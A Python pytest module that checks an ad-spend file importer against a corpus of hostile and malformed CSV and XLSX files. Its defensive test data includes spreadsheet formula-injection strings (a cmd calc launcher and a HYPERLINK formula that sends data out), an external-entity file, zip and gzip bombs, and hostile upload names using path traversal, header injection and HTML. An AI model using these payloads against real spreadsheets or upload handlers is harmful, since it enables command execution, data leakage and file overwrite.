"""Every hostile or malformed file of the public corpus gets its recorded answer."""

import csv
from datetime import date
from pathlib import Path

import pytest

from integrations.rules import DEFAULT_LIMITS, Outcome, Reading
from tests.integrations.files import cautions, codes, day_list, read

pytestmark = pytest.mark.feature("3.1", "3.4")

# Whether these may be written depends on what was imported before, not on the file.
NEEDS_HISTORY = {"r03"}
# Refused because they do not fit the account, so the counts are there all the same.
DOES_NOT_FIT = {"m05"}
IDS = [
    "g01",
    "g03",
    "g05",
    "g07",
    "g09",
    "g11",
    "g13",
    "g15",
    "g17",
    "g19",
    "m01",
    "m03",
    "m05",
    "f01",
    "f03",
    "f05",
    "n01",
    "n03",
    "n05",
    "n07",
    "n09",
    "n11",
    "n13",
    "n15",
    "n17",
    "n19",
    "d01",
    "d03",
    "d05",
    "d07",
    "d09",
    "d11",
    "s01",
    "s03",
    "s05",
    "s07",
    "s09",
    "s11",
    "s13",
    "s15",
    "s17",
    "s19",
    "s21",
    "h01",
    "h03",
    "h05",
    "h07",
    "h09",
    "h11",
    "x01",
    "x03",
    "x05",
    "x07",
    "x09",
    "x11",
    "x13",
    "z01",
    "z03",
    "z05",
    "z07",
    "r01",
    "r03",
    "r05",
]


@pytest.fixture(scope="module")
def index(shared_data: Path) -> dict[str, dict[str, str]]:
    with (shared_data / "bad_inputs/index.csv").open(encoding="utf-8") as file:
        return {row["id"]: row for row in csv.DictReader(file)}


def answer(shared_data: Path, entry: dict[str, str]) -> Reading:
    """The file read as the index says: the hint as settings."""
    settings = dict([entry["hint"].split("=", 1)]) if entry["hint"] else {}
    return read(shared_data / "bad_inputs" / entry["file"], name=entry["file"], settings=settings)


def test_the_list_is_complete(index: dict[str, dict[str, str]]) -> None:
    assert sorted(index) == sorted(IDS)


@pytest.mark.parametrize("id_", IDS)
def test_outcome(shared_data: Path, index: dict[str, dict[str, str]], id_: str) -> None:
    entry = index[id_]
    reading = answer(shared_data, entry)
    if id_ in NEEDS_HISTORY:
        assert reading.outcome is Outcome.ACCEPT
        assert reading.evidence.exported_on == date(2026, 11, 3)
    else:
        assert reading.outcome in entry["expected"].split("|"), reading.problems


@pytest.mark.parametrize("id_", IDS)
def test_counts_and_sum(shared_data: Path, index: dict[str, dict[str, str]], id_: str) -> None:
    entry = index[id_]
    reading = answer(shared_data, entry)
    assert reading.data_rows == reading.accepted + reading.rejected + reading.skipped
    if reading.outcome is Outcome.REFUSE and id_ not in DOES_NOT_FIT:
        assert reading.accepted == 0
        assert len(reading.rows) == 0
        return
    for count in ("data_rows", "accepted", "rejected", "skipped"):
        if entry[count]:
            assert getattr(reading, count) == int(entry[count]), count
    if entry["accepted_cost_sum"]:
        found = [f"{currency}:{amount}" for currency, amount in reading.totals.items()]
        assert found == [entry["accepted_cost_sum"]]


@pytest.mark.parametrize("id_", IDS)
def test_reasons_and_warnings(
    shared_data: Path, index: dict[str, dict[str, str]], id_: str
) -> None:
    entry = index[id_]
    reading = answer(shared_data, entry)
    if reading.outcome is not Outcome.ACCEPT:
        assert set(codes(reading)) & set(entry["reject_or_refuse_reasons"].split("|"))
    if entry["expected_warnings"]:
        assert entry["expected_warnings"] in cautions(reading)


@pytest.mark.parametrize("id_", IDS)
def test_every_reason_is_a_sentence_with_its_place(
    shared_data: Path, index: dict[str, dict[str, str]], id_: str
) -> None:
    reading = answer(shared_data, index[id_])
    for problem in reading.problems:
        assert problem.message.endswith((".", "?"))
        assert problem.message[0].isupper() or problem.message[0] == "“"
        if reading.outcome is Outcome.PARTIAL:
            assert problem.row is not None
    if reading.outcome is Outcome.PARTIAL:
        assert {held.row for held in reading.held} == {p.row for p in reading.problems}


def test_the_convention_of_the_column_decides(shared_data: Path) -> None:
    reading = read(shared_data / "bad_inputs/public/d01_ddmm_provable.csv")
    assert day_list(reading) == ["2026-10-13", "2026-10-14", "2026-11-05"]
    assert "13/10/2026" in reading.evidence.date_why


def test_a_moment_belongs_to_the_accounts_own_day(shared_data: Path) -> None:
    reading = read(
        shared_data / "bad_inputs/public/d11_offset_midnight.csv", account_tz="Europe/Berlin"
    )
    assert day_list(reading) == ["2026-11-02", "2026-11-02"]


def test_one_id_stays_one_campaign_whatever_its_name(shared_data: Path) -> None:
    reading = read(shared_data / "bad_inputs/public/h07_nfc_nfd_same_id.csv")
    assert reading.rows["campaign_external_id"].tolist() == ["8600"] * 3
    assert len(set(reading.rows["campaign_name"])) == 3


def test_long_ids_stay_apart(shared_data: Path) -> None:
    reading = read(shared_data / "bad_inputs/public/f05_ids_above_2_53.csv")
    assert reading.rows["campaign_external_id"].tolist() == [
        "120210000000000001",
        "120210000000000002",
    ]


def test_names_are_kept_as_typed(shared_data: Path) -> None:
    reading = read(shared_data / "bad_inputs/public/h01_formula_names.csv")
    names = reading.rows["campaign_name"].tolist()
    assert names[0] == "=cmd|'/c calc'!A1"
    assert names[4] == "\t=1+1"
    assert names[6] == '=HYPERLINK("http://127.0.0.1:9/?d="&A1,"x")'


def test_the_last_day_is_provisional_when_the_platform_says_so(shared_data: Path) -> None:
    reading = read(shared_data / "bad_inputs/public/m03_incomplete_data.csv")
    assert reading.provisional_days == (date(2026, 11, 5),)
    complete = read(shared_data / "bad_inputs/public/m01_header_footer.csv")
    assert complete.provisional_days == ()


def test_a_wrong_total_can_be_overridden_on_purpose(shared_data: Path) -> None:
    file = shared_data / "bad_inputs/public/g11_control_total_wrong.csv"
    assert codes(read(file)) == ["CONTROL_TOTAL_MISMATCH"]
    reading = read(file, override="CONTROL_TOTAL_MISMATCH")
    assert reading.outcome is Outcome.ACCEPT
    assert str(reading.totals["USD"]) == "1855.00"
    assert "CONTROL_TOTAL_OVERRIDDEN" in cautions(reading)


def test_an_external_entity_is_not_looked_up(shared_data: Path) -> None:
    reading = read(shared_data / "bad_inputs/public/x09_external_entity.xlsx")
    host = Path("/etc/hostname").read_text() if Path("/etc/hostname").exists() else "no-host-file"
    assert host.strip() not in repr(reading)


@pytest.mark.parametrize("name", ["x07_zip_bomb.xlsx", "z03_gzip_bomb.csv.gz"])
def test_a_bomb_is_not_unpacked(shared_data: Path, name: str) -> None:
    data = (shared_data / "bad_inputs/public" / name).read_bytes()
    assert len(data) * DEFAULT_LIMITS.ratio < 24_000_000
    reading = read(data)
    assert codes(reading) == ["DECOMPRESSION_LIMIT"]


@pytest.mark.parametrize(
    "name",
    ["../../../../srv/pwn.csv", "=cmd.csv", "a.csv\r\nSet-Cookie: x=1", "CON.csv", "A" * 300,
     "<img src=x>.csv", "a.csv%00.html"],
)  # fmt: skip
def test_the_name_decides_nothing(shared_data: Path, name: str) -> None:
    data = (shared_data / "bad_inputs/public/h09_hostile_file_name.csv").read_bytes()
    reading = read(data, name=name)
    assert reading.outcome is Outcome.ACCEPT
    assert str(reading.totals["USD"]) == "1855.00"
